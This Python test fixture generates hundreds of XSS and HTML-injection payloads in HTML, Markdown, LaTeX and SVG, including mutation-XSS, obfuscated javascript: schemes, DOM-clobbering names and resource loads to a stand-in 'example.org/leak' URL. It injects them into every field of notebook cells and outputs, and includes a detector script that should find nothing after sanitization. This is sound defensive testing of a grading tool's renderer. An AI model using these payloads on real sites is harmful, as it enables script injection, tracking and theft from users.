# ruff: noqa: E501
"""Hostile text with which a student might act in a reader's browser: some hundreds of pieces of HTML, Markdown,
formulas and drawings, and a notebook that has them wherever a notebook has text."""

import random
from itertools import product

ACT = "window.acted=1"
AWAY = "https://example.org/leak"
EVENTS = ("onclick", "onerror", "onload", "onmouseover", "onfocus", "onpointerenter", "ontoggle", "onanimationend")
TAGS = (
    "a",
    "b",
    "button",
    "details",
    "div",
    "form",
    "img",
    "input",
    "m",
    "math",
    "mtext",
    "svg",
    "table",
    "video",
    "x-y",
)
GAPS = (" ", "/", "\n", "\t", "\f", ' x="\'>" ')
WHOLE = (
    f"<script>{ACT}</script>",
    f"<ScRiPt\n>{ACT}</sCrIpT\n>",
    f"<script>{ACT}",
    f'<script src="{AWAY}.js"></script>',
    f"<m/onclick={ACT}>CLICK ME",
    f"<mx onclick={ACT}>CLICK ME",
    f"<math><mi/onclick={ACT}>CLICK ME</mi></math>",
    f'<math><maction actiontype="toggle" xlink:href="javascript:{ACT}">CLICK ME</maction></math>',
    f'<math href="javascript:{ACT}"><mtext>CLICK ME</mtext></math>',
    f'<math><annotation-xml encoding="text/html"><img src=x onerror={ACT}></annotation-xml></math>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror={ACT}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={ACT}>",
    f"<svg><style><img src=x onerror={ACT}></style></svg>",
    f"<svg><a href='javascript:{ACT}'><text>CLICK ME</text></a></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s></svg>",
    f"<svg><set attributeName=onmouseover to={ACT}></svg>",
    f"<svg><foreignObject><img src=x onerror={ACT}></foreignObject></svg>",
    f"<svg><use href='{AWAY}.svg#x'/></svg>",
    f"<svg><image href='{AWAY}.png'/></svg>",
    f"<svg><script>{ACT}</script></svg>",
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<textarea><img title='</textarea><img src onerror={ACT}>'>",
    f"<title><img title='</title><img src onerror={ACT}>'>",
    f"<xmp><img title='</xmp><img src onerror={ACT}>'>",
    f"<!--><img src=x onerror={ACT}>-->",
    f"<!--!><img src=x onerror={ACT}>",
    f"<![CDATA[<img src=x onerror={ACT}>]]>",
    f"<iframe src='javascript:parent.{ACT}'></iframe>",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f"<iframe src='{AWAY}'></iframe>",
    f"<object data='{AWAY}'></object>",
    f"<embed src='{AWAY}'>",
    f"<base href='{AWAY}/'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<link rel=stylesheet href='{AWAY}.css'>",
    f"<link rel=prefetch href='{AWAY}'>",
    f"<style>@import '{AWAY}.css'; *{{background:url({AWAY})}}</style>",
    f"<p style='background:url({AWAY})'>t</p>",
    f"<p style='background-image:u\\72l({AWAY})'>t</p>",
    f"<p style='border-image:image-set(\"{AWAY}\" 1x)'>t</p>",
    f"<p style='color:red;list-style:url({AWAY})'>t</p>",
    f"<a href='{AWAY}' style='position:fixed;inset:0;z-index:9999'>CLICK ME</a>",
    "<p style='margin:-999em'>t</p>",
    f"<img src='{AWAY}.png'>",
    f"<img srcset='{AWAY}.png 1x'>",
    f"<video poster='{AWAY}.png' src='{AWAY}.mp4' autoplay>",
    f"<audio src='{AWAY}.mp3' autoplay>",
    f"<picture><source srcset='{AWAY}.png'><img></picture>",
    f"<input type=image src='{AWAY}.png'>",
    f"<table background='{AWAY}.png'><tr><td background='{AWAY}.png'>t</table>",
    f"<form action='{AWAY}'><button>CLICK ME</button></form>",
    f"<button formaction='javascript:{ACT}'>CLICK ME</button>",
    "<label for=jacobian>CLICK ME</label>",
    "<input class=score id=jacobian value=9>",
    "<p id=jacobian class=score>t</p>",
    "<a name=formgrader></a><img name=base_url>",
    "<form name=formgrader><input name=grades></form>",
    f"<div contenteditable autofocus onfocus={ACT}>t</div>",
    f"<x-y tabindex=1 autofocus onfocus={ACT}>t</x-y>",
    "<dialog open>CLICK ME</dialog>",
    "<p data-click='toggleAllNames()'>CLICK ME</p>",
    "<p popover data-toggle=tooltip>t</p>",
    "<a data-link='x' data-toggle=modal href=# target=_self>CLICK ME</a>",
    "<a href='evil.html'>CLICK ME</a>",
    "<a href='/formgrader?path=/tmp'>CLICK ME</a>",
    "<a href='//example.org'>CLICK ME</a>",
    "<a href='#x' ping='https://example.org'>t</a>",
    f"<a href='data:text/html,<script>{ACT}</script>'>CLICK ME</a>",
    f"<a href='blob:{AWAY}'>CLICK ME</a>",
    "<a href='vbscript:x'>CLICK ME</a>",
    "<a href='file:///etc/passwd'>CLICK ME</a>",
    f"<img src='data:text/html,<script>{ACT}</script>'>",
    f"<img src='data:image/svg+xml,<svg onload={ACT}>'>",
    f"<template><script>{ACT}</script></template><slot>t</slot>",
    f"&lt;img src=x onerror={ACT}&gt;",
    f"&#60;script&#62;{ACT}&#60;/script&#62;",
    f"<%00script>{ACT}</%00script>",
    f"<\x00script>{ACT}</script>",
)
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\nscript:",
    "\x01javascript:",
    "&#106;avascript:",
    "javascript&colon;",
    " javascript:",
)
IN_FORMULAS = (
    rf"\text{{<img src=x onerror={ACT}>}}",
    rf"\text{{<m/onclick={ACT}>CLICK ME}}",
    rf"\mbox{{<svg onload={ACT}>}}",
    rf"\text{{</mtext></math><img src=x onerror={ACT}>}}",
    rf"\href{{javascript:{ACT}}}{{CLICK ME}}",
    rf'\color{{red" onclick="{ACT}}}x',
    rf'\colorbox{{red"><img src=x onerror={ACT}>}}x',
    rf"\textrm{{<script>{ACT}</script>}}",
    rf'\hspace{{1em" onmouseover="{ACT}}}',
    r"\hspace{-99em}x",
    rf"\operatorname{{<img src=x onerror={ACT}>}}",
    rf"\text{{&lt;img src=x onerror={ACT}&gt;}}",
    rf"\unicode{{60}}img src=x onerror={ACT}>",
    rf"</script><script>{ACT}</script>",
    rf"\begin{{matrix}}\text{{<b onclick={ACT}>CLICK ME}}\end{{matrix}}",
    rf"\style{{background:url({AWAY})}}{{x}}",
    rf"\includegraphics{{{AWAY}.png}}",
    r"\class{score}{\cssId{jacobian}{x}}",
    rf"<mi/onclick={ACT}>x",
)
IN_MARKDOWN = (
    f"![x]({AWAY}.png)",
    f"![x](javascript:{ACT})",
    f"[CLICK ME](data:text/html,<script>{ACT}</script>)",
    f'[CLICK ME](https://x"onclick="{ACT})',
    f"[CLICK ME][r]\n\n[r]: javascript:{ACT}",
    f"<javascript:{ACT}>",
    f'```x" onclick="{ACT}\na\n```',
    f'![x](a"onerror="{ACT})',
    f"`<img src=x onerror={ACT}>`",
    "[CLICK ME](evil.html)",
    f"# <img src=x onerror={ACT}>",
    f"|<img src=x onerror={ACT}>|\n|-|\n|<script>{ACT}</script>|",
    f"    <script>{ACT}</script>",
    f"```mermaid\n<img src=x onerror={ACT}>\n```",
    f"- <details ontoggle={ACT} open>\n  <summary>t</summary>",
    f'![x](attachment:a" onerror="{ACT})',
)


def pieces():
    """All pieces, as Markdown may have them. The last ones are nested and broken at random, with a fixed seed."""
    made = [*WHOLE, *IN_MARKDOWN]
    made += [f"<{tag}{gap}{event}={ACT} autofocus tabindex=0>CLICK ME" for (tag, event), gap in
             zip(product(TAGS, EVENTS), GAPS * 99, strict=False)]  # fmt: skip
    made += [f'<a href="{scheme}{ACT}">CLICK ME</a>' for scheme in SCHEMES] + [f"[CLICK ME]({s}{ACT})" for s in SCHEMES]
    made += [f"${latex}$" for latex in IN_FORMULAS] + [f"$$\n{latex}\n$$" for latex in IN_FORMULAS]
    chance = random.Random(1)
    for _ in range(100):
        broken = "".join(chance.choice(made)[: chance.randint(5, 200)] for _ in range(chance.randint(2, 5)))
        made.append(broken)
    return made


def hostile_cells():
    """Cells of a notebook, as JSON, with hostile text in everything that a cell or an output has."""
    texts = pieces()
    picture = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    size = {
        "image/png": {"width": f"1 onload={ACT}", "height": f'1" onload="{ACT}', "alt": f'"><script>{ACT}</script>'}
    }
    cells = []
    for number, text in enumerate(texts):
        name = f"h{number}"
        cells.append({"cell_type": "markdown", "id": name, "metadata": {}, "source": text})
        data = {"text/html": {"text/html": text}, "text/markdown": {"text/markdown": text}, "text/latex": {"text/latex": text},
                "image/svg+xml": {"image/svg+xml": f'<svg xmlns="http://www.w3.org/2000/svg">{text}</svg>'},
                "text/plain": {"text/plain": text}}[("text/html", "text/markdown", "text/latex", "image/svg+xml", "text/plain")[number % 5]]  # fmt: skip
        outputs = [
            {"output_type": "display_data", "metadata": {}, "data": data},
            {"output_type": "display_data", "metadata": {}, "data": {"text/html": text}},
            {"output_type": "stream", "name": "stdout", "text": f"\x1b[31m{text}\x1b[0m \x1b[38;2;1;2;{text}m"},
            {"output_type": "error", "ename": text, "evalue": text, "traceback": [f"\x1b[1m{text}"]},
        ]
        cells.append({"cell_type": "code", "id": f"c{number}", "metadata": {}, "source": text, "outputs": outputs,
                      "execution_count": number})  # fmt: skip
    act = f"<img src=x onerror={ACT}>"
    isolated = {"text/html": {"isolated": True}}
    cells += [
        {"cell_type": "code", "id": "p1", "source": "1", "execution_count": act, "outputs": [
            {"output_type": "display_data", "metadata": size, "data": {"image/png": picture}},
            {"output_type": "display_data", "metadata": {}, "data": {"image/png": f'{picture}" onload="{ACT}'}},
            {"output_type": "display_data", "metadata": isolated, "data": {"text/html": f"<script>parent.{ACT}</script>a"}},
            {"output_type": "execute_result", "metadata": {}, "execution_count": act, "data": {"text/plain": act}},
            {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": ACT}}],
         "metadata": {"tags": [f'"{act}'], "nbgrader": {"grade": True, "solution": True, "grade_id": f'"{act}', "points": act}}},
        {"cell_type": "raw", "id": "r1", "metadata": {"raw_mimetype": "text/html"}, "source": act},
        {"cell_type": act, "id": "u1", "metadata": {}, "source": act},
        {"cell_type": "markdown", "id": f'x"{act}', "metadata": {}, "source": "t"},
    ]  # fmt: skip
    return cells


FAULTS = """
() => {
  const all = [...document.querySelectorAll("#notebook *, main *")];
  const bad = [];
  for (const one of all) {
    const own = one.closest(".panel-heading, .panel-footer") || one.matches(".nbgrader_cell, main");
    for (const {name, value} of one.attributes) {
      if (name.startsWith("on")) bad.push(one.outerHTML);
      if (["href", "src", "action", "formaction", "xlink:href", "srcset", "data", "poster", "background"].includes(name)
          && !/^(https?:|mailto:|#|data:image\\/|[a-z_]+\\.html$)/i.test(value.trim()) && !own) bad.push(one.outerHTML);
      if (name === "style" && /url|position|fixed|-\\d/i.test(value) && !one.closest("svg")) bad.push(one.outerHTML);
      if (name.startsWith("data-") && !own) bad.push(one.outerHTML);
    }
    if (one.matches("script, style, iframe, object, embed, base, meta, link, form, dialog, label, template, video, audio")
        && !one.closest("svg[role=img]")) bad.push(one.outerHTML);
    if (one.matches("input, button, textarea, select, [id=jacobian]") && !own) bad.push(one.outerHTML);
    if (one.matches("a[href]:not([href^='#'])") && !/^[a-z_]+\\.html$/.test(one.getAttribute("href")) && !own
        && (one.target !== "_blank" || !one.rel.includes("noopener"))) bad.push(one.outerHTML);
  }
  return bad.map(one => one.slice(0, 300));
}
"""
"""What on a page, beside what is ours, could act or lead somewhere: a list, which is to be empty."""
